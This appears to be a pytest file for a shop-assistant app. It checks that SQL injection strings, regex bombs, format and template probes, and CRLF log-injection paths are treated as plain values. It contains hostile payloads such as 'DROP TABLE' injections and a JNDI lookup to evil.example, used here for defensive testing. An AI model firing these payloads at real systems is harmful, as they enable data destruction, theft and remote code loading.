"""Values that mean something to somebody: to SQL, to a pattern, to a log, to a format. Here they are only values."""

import logging
from collections.abc import Iterator
from pathlib import Path

import pytest

from linda.adapters.sqlite_store import SqliteStore
from linda.records.store import Absent, Delete, Equals, Put, Range, Update
from linda.records.tables import INBOX, LEADS, TABLES
from linda.testing.memory_store import MemoryStore
from tests.owner_program import OwnerProgram, open_api
from tests.shop_desk import CUSTOMER, ROOT, open_shop, phone_of

SQL = [
    "x' OR '1'='1",
    'x" OR ""="',
    "x'; DROP TABLE Linda_Inbox; --",
    "x') ; DELETE FROM Repairs_Lead_Log; --",
    "x' UNION SELECT item FROM Linda_Inbox --",
    "%",
    "_",
    "?",
    ":key",
    "\\'",
    "x\x00' OR 1=1",
]


@pytest.fixture
def store(tmp_path: Path) -> Iterator[SqliteStore]:
    opened = SqliteStore(tmp_path / "linda.db")
    opened.transact(Put(INBOX, {"key": "victim", "text": "PRIVATE"}), Put(LEADS, {"lead_id": "victim", "timestamp": 0}))
    yield opened
    opened.close()


@pytest.mark.parametrize("hostile", SQL)
def test_a_value_that_is_sql_finds_and_changes_itself_alone(store: SqliteStore, hostile: str) -> None:
    assert store.get(INBOX, {"key": hostile}) is None
    assert store.query(LEADS, hostile, Range(0, 9)) == []
    assert store.query(LEADS, hostile, index="leads_by_phone") == []
    store.transact(Put(INBOX, {"key": hostile, "text": hostile}, Absent()))
    store.transact(Update(INBOX, {"key": hostile}, {"text": hostile, "more": hostile}, Equals("text", hostile)))
    assert store.get(INBOX, {"key": hostile}) == {"key": hostile, "text": hostile, "more": hostile}
    store.transact(Delete(INBOX, {"key": hostile}, Equals("more", hostile)))
    left = {table.name: list(store.items(table)) for table in TABLES}
    assert left[INBOX.name] == [{"key": "victim", "text": "PRIVATE"}]
    assert left[LEADS.name] == [{"lead_id": "victim", "timestamp": 0}]


PATTERNS = ["(", "[a-", "*", "a{9999999}", "\\", ".*", "(?P<x>", "$^|"]


@pytest.mark.parametrize("signs", PATTERNS)
def test_signs_of_patterns_in_the_owners_words_are_only_signs(tmp_path: Path, signs: str) -> None:
    written = signs.replace("\\", "\\\\")
    text = (ROOT / "shop.toml").read_text(encoding="utf-8")
    assert 'owner = "Brandon"' in text
    shop = tmp_path / "shop.toml"
    shop.write_text(text.replace('owner = "Brandon"', f'owner = "Bran{written}don"'), encoding="utf-8")
    with open_shop(store=MemoryStore(), LINDA_SHOP_FILE=str(shop)) as linda:
        (reply,) = phone_of(linda).text(CUSTOMER, f"is Bran{signs}don there? how much for an iphone 13 screen").replies
    assert "$79" in reply


@pytest.mark.parametrize(
    "said", ["{owner}", "{0}", "%s %n %x", "${jndi:ldap://evil.example/a}", "{{7*7}}", "{shop.phone}"]
)
def test_signs_of_formats_and_templates_are_only_signs(said: str) -> None:
    with open_api() as program:
        phone_of(program.linda).text(CUSTOMER, f"{said} how much for an iphone 13 screen")
        gym = {"version": 0, "state": {"mode": "CUSTOM", "note": said}}
        assert program.send("PUT", "/api/state", gym).body["state"]["note"] == said
        (reply,) = phone_of(program.linda).text(CUSTOMER, "where are you?").replies
    for found in ("49", "Brandon Shop", "ldap", "<Shop"):
        assert found not in reply or found in said


@pytest.mark.parametrize("path", ["/api/a%0d%0aFORGED", "/api/a\r\nFORGED line", "/api/\x1b[2JFORGED"])
def test_a_refused_request_is_one_line_of_the_log(caplog: pytest.LogCaptureFixture, path: str) -> None:
    caplog.set_level(logging.INFO)
    with open_api() as program:
        assert OwnerProgram(program.linda, token=None).send("DELETE", path).status == 401
    (line,) = caplog.messages
    assert "is refused" in line
    assert "401" in line
    assert "DELETE" in line
    assert line.isprintable()


def test_who_is_refused_is_logged_without_what_was_sent(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    with open_api() as program:
        stranger = OwnerProgram(program.linda, token=None)
        stranger.send("PUT", "/api/state", {"PRIVATE": 1}, query="PRIVATE=1", authorization="Bearer PRIVATE")
        stranger.send("POST", "/api/session", {"phone": "PRIVATE"}, origin="https://evil.example")
    refused = [record.getMessage() for record in caplog.records if "refused" in record.getMessage()]
    assert refused == [
        "a request to the API is refused ('PUT' '/api/state': 401); more are told once a minute",
        "a request to sign in is refused ('POST' '/api/session': 403); more are told once a minute",
    ]
    assert "PRIVATE" not in caplog.text
